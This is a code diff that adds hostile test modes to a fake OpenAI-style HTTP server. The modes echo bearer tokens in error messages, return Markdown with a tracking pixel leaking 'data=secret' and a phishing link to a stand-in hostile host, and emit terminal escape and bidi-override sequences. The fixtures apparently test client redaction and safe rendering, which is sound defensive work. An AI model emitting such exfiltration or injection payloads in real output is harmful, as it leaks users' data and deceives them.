@@ -18,6 +18,13 @@ Behaviour is chosen per request by the model name, so one server serves many fak
     conf-<pct>-<word> answers <word>; with `logprobs: true` every token has probability pct%
     ratelimit-<ms>    the first call per prompt is a 429 with Retry-After <ms>/1000 s, then echo
     keyecho-401       HTTP 401 whose error message repeats the bearer token, as some providers do
+    keypad[-<n>]      HTTP 500 whose message is <n> padding characters then the request's
+                      Authorization header (bare `keypad`: <n> is read from "pad <n>" in the prompt)
+    hostile-md        answers Markdown that would fetch from / link to `server.hostile_origin`
+                      (images inline and by reference, autolinks, bare URLs, HTML, TeX)
+    hostile-error     HTTP 500 whose message is that same Markdown (an image and a phishing link)
+    huge-<n>          answers <n> characters whatever max_tokens says (a provider ignoring it)
+    ansi              answers text full of terminal escape sequences
 
 `server.calls` counts requests per model; `server.last_headers` keeps the last Authorization seen and
 `server.last_request` the last JSON body.
@@ -107,6 +114,21 @@ class _Handler(BaseHTTPRequestHandler):
             err = {"error": {"message": f"Incorrect API key provided: {token}", "type": "invalid_request_error",
                              "code": "invalid_api_key"}}
             return self._send(401, json.dumps(err).encode())
+        elif model == "keypad" or model.startswith("keypad-"):
+            tail = model.split("-", 1)[1] if "-" in model else prompt.rsplit("pad ", 1)[-1].split()[0]
+            err = {"error": {"message": "x" * int(tail) + "Authorization: " + self.headers.get("Authorization", ""),
+                             "type": "server_error", "code": 500}}
+            return self._send(500, json.dumps(err).encode())
+        elif model == "hostile-md":
+            answer = hostile_markdown(srv.hostile_origin)
+        elif model == "hostile-error":
+            err = {"error": {"message": hostile_markdown(srv.hostile_origin, short=True),
+                             "type": "server_error", "code": 500}}
+            return self._send(500, json.dumps(err).encode())
+        elif model.startswith("huge-"):
+            answer = ("lorem ipsum " * (int(model.split("-", 1)[1]) // 12 + 1))[: int(model.split("-", 1)[1])]
+        elif model == "ansi":
+            answer = "plain \x1b[2J\x1b]0;pwned\x07 title \x1b[31mred\x1b[0m \r overwritten \u202e reversed"
         elif model == "malformed":
             return self._send(200, b"{this is not json")
         elif model == "empty":
@@ -184,6 +206,24 @@ class _Handler(BaseHTTPRequestHandler):
         self.close_connection = True
 
 
+def hostile_markdown(origin: str, short: bool = False) -> str:
+    """Markdown that makes a naive renderer fetch from `origin` or show a link to it."""
+    if short:
+        return (f"Upstream failure ![e]({origin}/err.png) [Re-authenticate here]({origin}/phish) "
+                f"<img src=\"{origin}/err-html.png\">")
+    return "\n".join([
+        "Here is the answer.",
+        f"![tracking pixel]({origin}/pixel.png?data=secret)",
+        f"[Re-authenticate here]({origin}/phish)",
+        f"![by reference][pic] and <{origin}/autolink> and {origin}/bare and www.example.invalid",
+        f"<img src=\"{origin}/html.png\"> <iframe src=\"{origin}/frame\"></iframe>",
+        f"[![nested]({origin}/nested.png)]({origin}/nested-link)",
+        f"$\\includegraphics{{{origin}/tex.png}}$",
+        "",
+        f"[pic]: {origin}/ref.png",
+    ])
+
+
 class FakeOpenAIServer(ThreadingHTTPServer):
     daemon_threads = True
     allow_reuse_address = True
@@ -202,6 +242,7 @@ class FakeOpenAIServer(ThreadingHTTPServer):
         self.max_inflight = 0
         self.chaos_seed = 0
         self.hang_s = 2.0  # how long a chaos hang lasts: longer than any test timeout
+        self.hostile_origin = "http://hostile.invalid:8123"  # where hostile-md/-error point
         self._thread: threading.Thread | None = None
 
     def handle_error(self, request: Any, client_address: Any) -> None:
